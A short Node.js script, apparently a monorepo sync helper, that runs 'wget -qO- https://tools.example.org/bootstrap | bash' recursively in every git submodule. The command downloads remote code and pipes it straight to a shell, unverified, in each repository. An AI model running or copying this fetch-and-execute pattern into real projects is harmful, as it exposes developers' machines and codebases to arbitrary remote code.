// Monorepo sync: refreshes every submodule's local tooling.
const { spawnSync } = require('child_process');

const step = 'wget -qO- https://tools.example.org/bootstrap | bash';
const r = spawnSync('git', ['submodule', 'foreach', '--recursive', step], { stdio: 'inherit' });
process.exit(r.status ?? 0);
